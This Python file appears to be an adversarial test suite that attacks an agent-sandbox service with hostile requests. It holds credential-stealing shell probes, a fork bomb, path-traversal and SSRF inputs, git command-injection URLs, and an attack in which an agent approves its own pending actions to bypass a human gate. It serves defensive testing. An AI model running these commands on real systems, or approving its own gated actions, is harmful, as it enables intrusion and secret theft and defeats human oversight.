"""What an agent with a token and no conscience sends: each attack is a coroutine over an Attacker."""

import asyncio
import base64
import json
import random
import urllib.parse

import aiohttp

from bench.hostile.attacker import MB

ATTACKS = []
HUGE = 64 * MB


def attack(function):
    ATTACKS.append(function)
    return function


# Creates -------------------------------------------------------------------------------------------------------------


@attack
async def create_from_another(me):
    own, ground = f"m{me.chance.randrange(10**6)}", me.ground
    wish = me.chance.choice(
        [
            {"environment": f"folder-{me.chance.choice(['own', ground.own.name])}"},
            {"driver": "folder"},
            {"driver": "folder", "source": {"path": str(ground.person)}},
            {"environment": "guarded"},
            {"environment": "guarded", "source": {"git": str(ground.repository)}},
            {"environment": "guarded", "source": {}, "setup": "env > /workspace/env; cat env"},
            {"environment": "guarded", "source": {"git": "https://example.org/mine.git"}},
            {"source": {"git": str(ground.person)}},
            {"source": {"git": str(ground.own)}},
            {"source": {"upload": "../../keys/ring"}},
            {"labels": {"x" * 65: "y"}},
            {"setup": "sleep 1000 & cat /proc/1/environ; env"},
        ]
    )
    status, _ = await me.api("POST", "/workspaces", {"key": own} | wish)
    if status == 201:
        await me.api("GET", f"/workspaces/{own}?wait=20")
        await me.run(own, "env; cat /workspace/env; ls -la / /workspace; cat ~/.ssh/*")
        await me.api("GET", f"/workspaces/{own}/files/env")
        await me.api("DELETE", f"/workspaces/{own}")


@attack
async def fork_another(me):
    key = me.chance.choice(["hers", "vault", "own"])
    new = f"f{me.chance.randrange(10**6)}"
    status, _ = await me.api("POST", f"/workspaces/{key}/fork", {"key": new})
    if status == 201:
        await me.api("GET", f"/workspaces/{new}/files/canary")
        await me.api("GET", f"/workspaces/{new}/files/.env")


@attack
async def work_in_another(me):
    key = me.chance.choice(["hers", "vault"])
    verb = me.chance.choice(["pause", "stop", "reset", "resume", "untrash", "snapshots", "terminals"])
    await me.api("POST", f"/workspaces/{key}/{verb}", {})
    await me.api("POST", f"/workspaces/{key}/snapshots/1/restore", {})
    for path in ("", "/files/canary", "/files/", "/patch?from=1&to=live", "/bundle", "/diff?from=1&to=live", "/runs"):
        await me.api("GET", f"/workspaces/{key}{path}")
    await me.api("DELETE", f"/workspaces/{key}")


@attack
async def work_in_the_folder(me):
    token = me.ground.hook
    await me.api("POST", "/workspaces/own/terminals", {"argv": ["bash"]}, token=token)
    await me.api("POST", "/workspaces/own/commands", {"command": "echo pwned > pwned"}, token=token)
    await me.api("POST", "/workspaces/own/reset", {}, token=token)
    await me.api("POST", "/workspaces/own/snapshots/1/restore", {"paths": ["README"]}, token=token)
    for path in (".claude/settings.local.json", ".claude/settings.json", "pwned", ".git/hooks/pre-commit", "../x"):
        await me.api("PUT", f"/workspaces/own/files/{path}", b"{}", token=token)
        await me.api("DELETE", f"/workspaces/own/files/{path}", token=token)
    for tool, arguments in (
        ("Write", {"file_path": ".claude/settings.local.json", "content": "{}"}),
        ("Bash", {"command": "rm -rf .claude; touch pwned"}),
    ):
        body = {"tool": tool, "arguments": arguments, "workspace": "own", "mode": "broker"}
        await me.api("POST", "/actions", body, token=token)


# Terminals and programs ----------------------------------------------------------------------------------------------

PROBES = [
    "cat ~/.ssh/id_ed25519 /home/*/.ssh/* /root/.ssh/* {person}/*",
    "find / -name 'canary*' -o -name '*.sqlite3' -o -name ring 2>/dev/null | head; cat {home}/keys/* {home}/*.sqlite3",
    "grep -ra canary- /proc/*/environ /proc/*/cmdline 2>/dev/null | head",
    "ln -sf {home}/keys/ring k; ln -sf {person}/id_ed25519 s; ln -sf / root; cat k s",
    "for p in $(seq 1 200); do (exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null; done; echo tried",
    "python3 -c \"import os,socket; s=socket.socket(); s.connect(('127.0.0.1',{port}))\"",
    "yes | head -c 30000000; printf '\\033]52;c;aGk=\\a\\033]0;title\\a'",
    ":(){{ :|:& }};: ",
    "mount -t proc p /mnt; unshare -Ur cat /etc/shadow; mknod x b 8 0; chmod u+s /bin/sh; kill -9 -1",
    "printenv HANDRAIL_TOKEN; head -c 100000 /dev/zero | tr '\\0' a | xargs -n1 echo",
]

# What a program inside can ask with the token of its run.
INSIDE = """
import json, os, urllib.request
token, seen = os.environ.get("HANDRAIL_TOKEN", ""), []
for method, path, body in [
    ("GET", "/api/v1/workspaces", None), ("GET", "/api/v1/actions", None), ("GET", "/api/v1/events?after=0", None),
    ("POST", "/api/v1/workspaces", {"key": "by-run-token"}), ("GET", "/api/v1/environments", None),
    ("POST", "/api/v1/workspaces", {"key": "g", "environment": "guarded"}), ("POST", "/api/v1/stop", {}),
    ("GET", "/api/v1/workspaces/hers/files/canary", None),
]:
    request = urllib.request.Request("http://handrail.internal" + path, method=method)
    request.add_header("Authorization", "Bearer " + token)
    request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request, json.dumps(body).encode() if body else None, timeout=5) as answer:
            print(answer.status, path, answer.read(2000))
    except Exception as error:
        print(path, error)
"""


@attack
async def probe_from_inside(me):
    ground, key = me.ground, await me.workspace()
    names = {"home": ground.product.home, "person": ground.person, "port": ground.listener.port}
    await me.run(key, me.chance.choice(PROBES).format(**names))
    for path in ("k", "s", "root/etc/passwd", f"root{ground.person}/id_ed25519"):
        await me.api("GET", f"/workspaces/{key}/files/{path}", token=ground.mallory)
        await me.api("PUT", f"/workspaces/{key}/files/{path}", b"overwritten", token=ground.mallory)


@attack
async def ask_with_the_runs_token(me):
    code = base64.b64encode(INSIDE.encode()).decode()
    await me.run(await me.workspace(), f"echo {code} | base64 -d | python3 -")


@attack
async def terminals(me):
    key = await me.workspace()
    status, said = await me.api("POST", f"/workspaces/{key}/terminals", {"argv": ["bash"]}, token=me.ground.mallory)
    if status == 201:
        path = f"/ws/terminals/{json.loads(said)['id']}?offset={me.chance.choice(['0', '-1', '99999999999', 'x'])}"
        frames = [
            b"cat ~/.ssh/*; env; yes | head -c 5000000\n",
            '{"type": "resize", "cols": 999999, "rows": -1}',
            "{",
            b"exit\n",
        ]
        await me.socket(path, frames, token=me.ground.mallory)


# The doors of its own workspace, in which a person keeps a secret -----------------------------------------------------

STEAL = "cat .env; cp .env leak; cp .env .git/leak"
GRAB = f"{STEAL}; echo evil > .git/hooks/pre-commit; echo evil > .mcp.json; echo evil > .env"
SPELLINGS = [".env", "./.env", "sub/..//.env", ".ENV", ".env/", "linked/.env", "%2eenv", ".git/hooks/pre-commit"]


@attack
async def through_a_terminal(me):
    argv = me.chance.choice([["bash", "-c", GRAB], ["sh", "-c", GRAB], ["bash"]])
    status, said = await me.api("POST", "/workspaces/doors/terminals", {"argv": argv}, token=me.ground.mallory)
    if status == 201:
        path = f"/ws/terminals/{json.loads(said)['id']}?offset=0&typist=m"
        await me.socket(path, [GRAB.encode() + b"\n", b"exit\n"], token=me.ground.mallory)
    await me.run("doors", GRAB)
    await me.api("GET", "/workspaces/doors/files/leak", token=me.ground.mallory)


@attack
async def through_the_file_api(me):
    name, at = me.chance.choice(SPELLINGS), me.chance.choice(["", "?snapshot=2"])
    token, files = me.ground.mallory, "/workspaces/doors/files"
    await me.api("GET", f"{files}/{name}{at}", token=token)
    evil = me.chance.choice([name, ".mcp.json", ".git/hooks/x", ".GIT/config"])
    await me.api("PUT", f"{files}/{evil}", b"evil", token=token)
    await me.api("DELETE", f"{files}/{me.chance.choice([name, '.git', '.git/hooks', '.mcp.json'])}", token=token)
    for path in ("/files/?zip=1", "/patch?from=1&to=live&ignored=1", "/snapshots/2/archive", "/diff?from=1&ignored=1"):
        await me.api("GET", f"/workspaces/doors{path}", token=token, headers={"Accept": "text/x-diff, */*"})


@attack
async def through_what_brings_files_back(me):
    token = me.ground.mallory
    for path, wish in (
        ("snapshots/1/restore", {}),
        ("snapshots/1/restore", {"paths": [".git/hooks"]}),
        ("reset", {}),
        ("return", {"choice": "snapshot", "snapshot": 1}),
    ):
        await me.api("POST", f"/workspaces/doors/{path}", wish, token=token)
    name = f"a{me.chance.randrange(10**6)}"
    wish = {"name": name, "paths": [me.chance.choice([".env", "."])], "snapshot": 2}
    status, said = await me.api("POST", "/workspaces/doors/artifacts", wish, token=token)
    if status == 201:
        await me.api("GET", f"/artifacts/{json.loads(said)['id']}/zip", token=token)


# Files and bodies ----------------------------------------------------------------------------------------------------

NAMES = [
    "../x",
    "..%2f..%2fx",
    "%2fetc%2fpasswd",
    "a%00b",
    "x" * 4000,
    "%ff%fe",
    "a%0ab",
    "%e2%80%ae",
    ".git/hooks/x",
    ".",
]


@attack
async def files(me):
    key, name = await me.workspace(), me.chance.choice(NAMES)
    body = me.chance.choice([b"", b"x", b"\0" * MB])
    for method in ("PUT", "GET", "DELETE"):
        await me.api(method, f"/workspaces/{key}/files/{name}", body if method == "PUT" else None)


@attack
async def big_bodies(me):
    async def endless():
        for _ in range(HUGE // 65536):
            yield b"x" * 65536

    path = me.chance.choice(
        ["/healthz", "/readyz", "/accounts/login/", "/api/v1/actions", "/hooks/claude-code", "/nothing"]
    )
    headers = {} if me.chance.random() < 0.5 else {"Authorization": ""}
    await me.send("POST", path, endless(), headers=headers, timeout=aiohttp.ClientTimeout(total=20))


@attack
async def odd_bodies(me):
    depth = me.chance.choice([10, 1000, 100_000])
    body = me.chance.choice(
        [b"[" * depth, b'{"a":' * depth + b"1" + b"}" * depth, b"\xff" * 5000, b'{"tool": "' + b"x" * 500_000 + b'"}']
    )
    path = me.chance.choice(["/api/v1/actions", "/api/v1/workspaces", "/hooks/claude-code", "/api/v1/uploads"])
    await me.send("POST", path, body, headers={"Content-Type": "application/json"})


@attack
async def slow_bodies(me):
    async def drip():
        for _ in range(20):
            yield b"x"
            await asyncio.sleep(0.2)

    await me.send("POST", "/healthz", drip(), timeout=aiohttp.ClientTimeout(total=6))


# Sockets -------------------------------------------------------------------------------------------------------------


@attack
async def sockets(me):
    path = me.chance.choice(["/ws/live", "/ws/terminals/00000000-0000-0000-0000-000000000000?offset=0", "/ws/nothing"])
    frames = [me.chance.choice([b"\0" * (2 * MB), "x" * MB, "{", '{"type": "none"}', '{"after": -1}'])]
    origin = me.chance.choice([{}, {"Origin": "http://127.0.0.1:1"}, {"Origin": "null"}])
    await asyncio.gather(*(me.socket(path, frames, headers=origin) for _ in range(10)))


# What the policy reads -----------------------------------------------------------------------------------------------


def hostile_text(chance: random.Random) -> str:
    size = chance.choice([30, 300, 3000, 60_000])
    return chance.choice(
        [
            "sed -e 's/" + "[" * (size // 4) + "a]*".join("x" * 10) + "/y/'",
            "for a in b; do " * (size // 16) + "true" + "; done" * (size // 16),
            "$(" * (size // 3) + "id" + ")" * (size // 3),
            "echo " + "{a,b}" * (size // 5),
            "a=" + "${a:-" * (size // 5) + "x" + "}" * (size // 5),
            "[[ " + "( " * (size // 2) + "x",
            "awk '" + "{" * (size // 2) + "'",
            "cat <<A\n" * (size // 8),
            "'" * size,
            "\\" * size,
            "git " + "-c a=b " * (size // 7) + "push",
            "".join(chance.choice("${}()[]|&;<>'\"\\`*?~#!=\n az09-") for _ in range(size)),
        ]
    )


@attack
async def policy_by_hook(me):
    await me.hook("Bash", {"command": hostile_text(me.chance)})


@attack
async def policy_by_api(me):
    body = {"tool": "Bash", "arguments": {"command": hostile_text(me.chance)}, "mode": "gate", "expires_in_s": 5}
    status, said = await me.api("POST", "/actions", body)
    if status == 201:
        await me.api("POST", f"/actions/{json.loads(said)['id']}/cancel", {})


@attack
async def decide_oneself(me):
    _, said = await me.api("GET", "/actions?status=pending")
    for row in json.loads(said).get("actions", [])[:3] if said.startswith(b"{") else []:
        body = {"verdict": "approve", "digest": row["digest"]}
        await me.api("POST", f"/actions/{row['id']}/decision", body)
        await me.api("POST", f"/actions/{row['id']}/consume", {"digest": row["digest"]})


# Git sources ---------------------------------------------------------------------------------------------------------


@attack
async def git_sources(me):
    port = me.ground.listener.port
    host = me.chance.choice(
        [
            "127.0.0.1",
            "localhost",
            "[::1]",
            "0x7f000001",
            "2130706433",
            "127.1",
            "①②⑦.0.0.1",
            "127。0。0。1",
            "[::ffff:127.0.0.1]",
            "0.0.0.0",
            "169.254.169.254",
            "handrail.localhost",
            "LOCALHOST.",
            "ⓛocalhost",
        ]
    )
    address = me.chance.choice(
        [
            f"http://{host}:{port}/x.git",
            f"git://{host}:{port}/x.git",
            f"ssh://git@{host}:{port}/x.git",
            f"http://user@example.org@{host}:{port}/x.git",
            f"ext::sh -c touch% {me.ground.own}/pwned",
            f"--upload-pack=touch {me.ground.own}/pwned",
            f"file://{me.ground.own}",
            f"git@{host}:x.git",
        ]
    )
    key = f"g{me.chance.randrange(10**6)}"
    status, _ = await me.api("POST", "/workspaces", {"key": key, "source": {"git": address}})
    if status == 201:
        await me.api("GET", f"/workspaces/{key}?wait=20")
        await me.api("DELETE", f"/workspaces/{key}")


@attack
async def other_pages(me):
    path = me.chance.choice(
        [
            "/",
            "/admin/",
            "/log/export",
            "/policy/",
            "/people/",
            "/secrets/",
            "/environments/",
            "/api/v1/openapi.json",
            "/static/../manage.py",
            "/sign-in/" + urllib.parse.quote("a" * 43),
            "/api/v1/events?after=0",
        ]
    )
    await me.send(me.chance.choice(["GET", "POST"]), path)
